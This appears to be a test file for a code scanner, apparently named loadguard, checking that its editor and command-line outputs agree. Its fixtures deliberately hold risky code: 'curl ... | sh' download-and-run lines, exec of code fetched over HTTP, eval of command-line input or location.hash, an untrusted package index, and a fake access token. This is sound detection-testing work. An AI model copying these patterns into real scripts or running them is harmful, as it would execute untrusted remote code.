/** One team's workspace with every kind of setting: the editor says of each file exactly what the command line says. */

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Diagnostic } from 'vscode-languageserver/node';
import type { JsonReport } from '../../server/cli/json.ts';
import { cell, notebook } from '../kit/notebooks.ts';
import { CommandLine } from './cli-process.ts';
import { COMMIT, ServerTests } from './lsp-server.ts';

const IMPORT = 'from transformers import AutoModel\n';
const load = (name: string, more = '') => `model = AutoModel.from_pretrained("${name}"${more})\n`;
const trusted = (name: string, commit = COMMIT) => load(name, `, revision="${commit}", trust_remote_code=True`);
const OTHER = COMMIT.replace('0', 'f');
const EVAL = 'eval(sys.argv[1])';
const said = (what: string) => `# loadguard: ${what}`;
const UNTIL = 'until 2099-12-31 a calculator for ourselves';

const SETTINGS = `{
  // What the team holds.
  "extends": ["strict", "notebook", "./team/base.jsonc", "@acme/rules"],
  "rules": {
    "runtime-install": "information",
    "runtime-compile": { "severity": "warning", "minimumConfidence": "medium" },
    "unpined-revision": "off"
  },
  "overrides": [
    { "files": ["tests/**", "**/*.test.ts"], "rules": { "unpinned-revision": "hint" }, "minimumConfidence": "high" },
    { "notebooks": true, "rules": { "exposed-secret": "warning" } },
    { "files": "locked/**", "locked": ["code-injection"] }
  ],
  "allow": {
    "organisations": [{ "name": "partner", "reason": "we audit what they publish", "until": "2099-01-31" },
                      { "name": "former", "reason": "we audited what they published", "until": "2020-01-31" }],
    "repositories": [{ "name": "other/model", "revision": "v2", "reason": "read at that tag" }],
    "hosts": [{ "name": "*.acme.example", "reason": "our own" }],
    "packages": [{ "name": "acme-tools", "reason": "our own" }],
    "indexes": [{ "name": "https://pypi.acme.example/simple", "reason": "our own" }]
  },
  "models": [{ "library": "acme", "language": "python", "rows": [
    { "call": "acme.hub.fetch", "role": "load", "kind": "hub", "artifact": "model",
      "arguments": { "repository": [0], "revision": ["revision"] } }
  ] }],
  "exclude": ["third_party", "*.generated.py"]
}
`;

const approval = (repository: string, more: Readonly<Record<string, string>> = {}) => ({
  ...{ host: 'huggingface', type: 'model', repository, commit: COMMIT },
  ...{ by: 'Ann', on: '2026-01-01', reason: 'read all of it', ...more },
});

const FILES: Readonly<Record<string, string>> = {
  'loadguard.jsonc': SETTINGS,
  'team/base.jsonc': '{ "rules": { "untrusted-index": "error", "dynamic-import": "off",\n "no-such-rule": "off" } }',
  'node_modules/@acme/rules/loadguard.jsonc': '{ "rules": { "silenced-loader": "hint" } }',
  'loadguard.lock.json': JSON.stringify({
    version: 1,
    approvals: [
      approval('acme/approved'),
      approval('acme/expired', { until: '2020-01-01' }),
      approval('acme/changed', { code: `sha256-${'0'.repeat(64)}` }),
      approval('acme/short', { commit: 'main' }),
    ],
  }),
  'plain.py':
    IMPORT + load('acme/tiny') + load('partner/model') + load('former/model') + load('ä/ö', ', revision="v2"'),
  'names.py': `${IMPORT}${load('other/model', ', revision="v2"')}${load('other/model', ', revision="v3"')}`,
  'own.py': 'import acme\n\nmodel = acme.hub.fetch("org/model")\n',
  'approved.py': IMPORT + trusted('acme/approved') + trusted('acme/approved', OTHER) + trusted('acme/expired'),
  'approved2.py': IMPORT + trusted('acme/changed') + trusted('acme/short') + trusted('acme/never'),
  'hosts.py': `import requests\n\nexec(requests.get("https://files.acme.example/a.py").text)\nexec(requests.get("https://b.example/a.py").text)\n`,
  'shell.py': `import os\n\nos.system("pip install acme-tools")\nos.system("pip install else")\nos.system("curl https://b.example/x | sh")\n`,
  'unsure.py': 'import importlib\n\n\ndef run(text, fields):\n    exec(text)\n    importlib.import_module(fields)\n',
  'imports.py': 'from names_of import MODEL\nfrom transformers import AutoModel\n\nAutoModel.from_pretrained(MODEL)\n',
  'names_of.py': 'MODEL = "acme/imported"\n',
  'tests/a.py': IMPORT + load('acme/tiny'),
  'tests/unsure.py': 'def run(text):\n    exec(text)\n',
  'third_party/a.py': IMPORT + load('acme/tiny'),
  'a.generated.py': IMPORT + load('acme/tiny'),
  'locked/a.py': `import sys\n${EVAL}  ${said('ignore[code-injection] ours alone')}\n`,
  'strict/loadguard.jsonc': '{ "root": true, "minimumConfidence": "medium" }',
  'strict/a.py': IMPORT + load('acme/tiny') + load('partner/model'),
  'inner/pyproject.toml':
    '[project]\nname = "a"\n\n[tool.loadguard]\nextends = "audit"\nrules = { unpinned-revision = "off" }\n',
  'inner/a.py': `${IMPORT}import sys\n${load('acme/tiny')}${EVAL}  ${said('ignore[code-injection] ours alone')}\n`,
  'comments.py': [
    'import sys',
    `${EVAL}  ${said(`ignore[code-injection] ${UNTIL}`)}`,
    `${EVAL}  ${said('ignore[code-injection] until 2020-01-01 it was ours')}`,
    `${EVAL}  ${said('ignore[code-injection]')}`,
    `${EVAL}  ${said('ignore[code-injecton] misspelt')}`,
    said('ignore[code-injection, remote-exec] half of it is of use'),
    EVAL,
    said('ignore-start[code-injection] a block'),
    EVAL,
    EVAL,
    said('ignore-end[code-injection]'),
    `x = 1  ${said('ignore[remote-exec] nothing here')}`,
    `${EVAL}  ${said('ignore everything')}`,
    '',
  ].join('\n'),
  'whole.py': `${said('ignore-file[code-injection] a calculator')}\nimport sys\n${EVAL}\n`,
  'comments.ts':
    '// loadguard: ignore[code-injection] ours alone\neval(process.argv[2]);\neval(process.argv[3]); /* loadguard: ignore[code-injection] */\neval(process.argv[4]);\n',
  'a.test.ts':
    'import { pipeline } from "@huggingface/transformers";\nawait pipeline("text-generation", "acme/tiny");\n',
  'page.tsx':
    'export const a = (\n  <div>\n    {/* loadguard: ignore[remote-module] we serve it */}\n    <script src="https://cdn.jsdelivr.net/npm/vue/dist/vue.js"></script>\n    <script src="https://cdn.jsdelivr.net/npm/vue/dist/vue.js"></script>\n  </div>\n);\n',
  'page.html':
    '<html>\n<script src="https://cdn.jsdelivr.net/npm/vue/dist/vue.js"></script>\n<script>eval(location.hash)</script>\n</html>\n',
  'requirements.txt':
    '--index-url https://pypi.acme.example/simple\n--extra-index-url http://b.example/simple\nelse\nacme-tools\n',
  'deploy.sh': `#!/bin/sh\ncurl https://b.example/x | sh  ${said('ignore[download-and-run] our own host')}\ncurl https://b.example/y | sh\n`,
  'serve.yaml': 'model: acme/tiny\ntrust_remote_code: true\n',
  Dockerfile: 'FROM python:3.12\nRUN pip install else\nRUN curl https://b.example/x | sh\n',
  'cells.ipynb': notebook([
    cell(`import sys\n${EVAL}\n`, { metadata: { tags: ['loadguard-ignore:code-injection:ours-alone'] } }),
    cell(`${said('ignore-cell[code-injection] ours')}\n${EVAL}\n${EVAL}\n`),
    cell(
      `!pip install else  ${said('ignore[runtime-install] here only')}\n!pip install more\n%pip install acme-tools\n`,
    ),
    cell(
      `%%bash\n${said('ignore[download-and-run] our own host')}\ncurl https://b.example/x | sh\ncurl https://b.example/y | sh\n`,
    ),
    cell(`${IMPORT}${load('acme/tiny')}${load('partner/model')}${EVAL}\n`),
    cell('TOKEN = "hf_abcdefghijklmnopqrstuvwxyzABCDEFGH"\n'),
    cell('def broken(:\n  eval(\n'),
  ]),
  'ä b/Zahl & Co.py': IMPORT + load('acme/tiny') + load('acme/second'),
  'moved/from.py': `${IMPORT}${load('acme/moved')}`,
  'moved/stays.py': `${IMPORT}${load('acme/stays')}`,
  'moved/to.py': 'x = 1\n',
  'moved/gone.py': `${IMPORT}${load('acme/gone')}`,
  'moved/cells.ipynb': notebook([cell(IMPORT + load('acme/in-a-cell'))]),
};

const LANGUAGES: Readonly<Record<string, string>> = {
  py: 'python',
  ts: 'typescript',
  tsx: 'typescriptreact',
  html: 'html',
  sh: 'shellscript',
  yaml: 'yaml',
  jsonc: 'jsonc',
  json: 'json',
  toml: 'toml',
};

const LEVELS = ['', 'error', 'warning', 'information', 'hint'];

describe('the editor and the command line', function () {
  this.timeout(120_000);
  const server = new ServerTests();
  const cli = CommandLine.forTests({ isProject: true });

  const uriOf = (name: string) => pathToFileURL(path.join(cli.folder, name)).href;
  const read = (name: string) => fs.readFileSync(path.join(cli.folder, name), 'utf8');

  /** What the command line says, by file, or by cell of a file. */
  const scanned = (...given: readonly string[]): ReadonlyMap<string, readonly string[]> => {
    const { output, errors } = cli.run(['scan', '--format', 'json', '--severity', 'hint', '--exit-zero', ...given]);
    assert.ok(output, errors);
    const told = new Map<string, string[]>();
    for (const it of (JSON.parse(output) as JsonReport).findings) {
      const { start, end } = it.notebook ?? it;
      const place = it.notebook ? `${it.file}#${it.notebook.cell}` : it.file;
      const line = `${start.line}:${start.column}-${end.line}:${end.column} ${it.rule} ${it.severity} ${it.confidence} ${it.fingerprint} ${it.message}`;
      told.set(place, [...(told.get(place) ?? []), line]);
    }
    return told;
  };

  const asLines = (diagnostics: readonly Diagnostic[], known: readonly string[]) =>
    diagnostics.map(({ range: { start, end }, code, severity, message, data }) => {
      const { fingerprint } = data as { readonly fingerprint: string };
      // How sure the analysis is cannot be seen in the editor.
      const confidence = known.find((it) => it.includes(fingerprint))?.split(' ')[3];
      return `${start.line + 1}:${start.character + 1}-${end.line + 1}:${end.character + 1} ${code} ${LEVELS[severity!]} ${confidence} ${fingerprint} ${message}`;
    });

  /** Opens a file as an editor does and compares. Answers with how many findings there are. */
  const compare = async (name: string, told: ReadonlyMap<string, readonly string[]>): Promise<number> => {
    const uri = uriOf(name);
    const text = read(name);
    if (name.endsWith('.ipynb')) {
      const cells = (JSON.parse(text).cells as { source: string[]; metadata: unknown }[]).map((it, index) => ({
        ...{ uri: `vscode-notebook-cell:${uri.slice(5)}#${index}`, languageId: 'python', version: 1 },
        ...{ text: it.source.join(''), metadata: it.metadata },
      }));
      await server.editor.notify('notebookDocument/didOpen', {
        notebookDocument: {
          ...{ uri, notebookType: 'jupyter-notebook', version: 1 },
          cells: cells.map((it) => ({ kind: 2, document: it.uri, metadata: it.metadata })),
        },
        cellTextDocuments: cells.map(({ metadata: _, ...it }) => it),
      });
      let count = 0;
      for (const [index, { uri: document }] of cells.entries()) {
        const known = told.get(`${name}#${index}`) ?? [];
        const shown = asLines(await server.editor.diagnostics(document, ({ version }) => version === 1), known);
        assert.deepEqual(shown, known, `${name}, cell ${index}`);
        count += shown.length;
      }
      const documents = cells.map(({ uri: document }) => ({ uri: document }));
      await server.editor.notify('notebookDocument/didClose', {
        notebookDocument: { uri },
        cellTextDocuments: documents,
      });
      return count;
    }
    const known = told.get(name) ?? [];
    const language =
      LANGUAGES[name.slice(name.lastIndexOf('.') + 1)] ?? (name === 'Dockerfile' ? 'dockerfile' : 'plaintext');
    const isAll = (shown: readonly Diagnostic[]) => shown.length === known.length;
    await server.editor.open(uri, language, text);
    // What is wrong with a file as one of settings is told a moment after the rest.
    const isSettings = /\.(?:toml|jsonc|json)$/.test(name);
    const accept = isSettings ? isAll : () => true;
    const shown = await server.editor.diagnostics(uri, (it) => it.version === 1 && accept(it.diagnostics));
    assert.deepEqual(asLines(shown, known), known, name);
    await server.editor.close(uri);
    server.editor.published.length = 0;
    return shown.length;
  };

  it('say the same of every file, whatever the team has settled', async () => {
    for (const [name, text] of Object.entries(FILES)) cli.write(name, text);
    assert.equal(cli.run(['baseline', 'moved', 'ä b']).code, 0);
    // Code moves to a file that is there, with its file, and is copied; lines move; more comes to what was accepted.
    cli.write('moved/to.py', `x = 1\n\n\n${IMPORT}${load('acme/moved')}`);
    cli.write('moved/from.py', 'y = 1\n');
    cli.write('moved/copy.py', `${IMPORT}${load('acme/stays')}`);
    cli.write('moved/second.py', `${IMPORT}${load('acme/gone')}`);
    cli.write('moved/third.py', `${IMPORT}${load('acme/gone')}`);
    cli.write('moved/z.py', `${IMPORT}${load('acme/moved')}`);
    fs.rmSync(path.join(cli.folder, 'moved/gone.py'));
    cli.write(
      'moved/cells.ipynb',
      notebook([cell('x = 1\n'), cell(`${IMPORT}${load('acme/in-a-cell')}${load('acme/new')}`)]),
    );
    cli.write('ä b/Zahl & Co.py', `# Moved.\n${IMPORT}${load('acme/new')}${load('acme/tiny')}${load('acme/second')}`);
    const told = scanned();
    const cells = new Set([...told.keys()].filter((it) => it.includes('#')).map((it) => it.split('#')[0]!));
    const names = [...new Set([...Object.keys(FILES), ...told.keys(), ...cells])]
      .filter((it) => !it.includes('#') && !it.includes('node_modules') && fs.existsSync(path.join(cli.folder, it)))
      .concat('loadguard.baseline.json')
      .sort();
    await server.start({ folder: pathToFileURL(cli.folder).href });
    let count = 0;
    for (const name of names) count += await compare(name, told);
    assert.equal(count, [...told.values()].flat().length);
    assert.ok(count > 50, String(count));
    const moved = [...told.keys()].filter((it) => it.startsWith('moved/'));
    assert.deepEqual(moved.sort(), ['moved/cells.ipynb#1', 'moved/copy.py', 'moved/third.py', 'moved/z.py']);
    const silent = ['third_party/a.py', 'a.generated.py', 'whole.py', 'names_of.py'];
    assert.deepEqual(
      silent.filter((it) => told.has(it)),
      [],
    );
  });
});
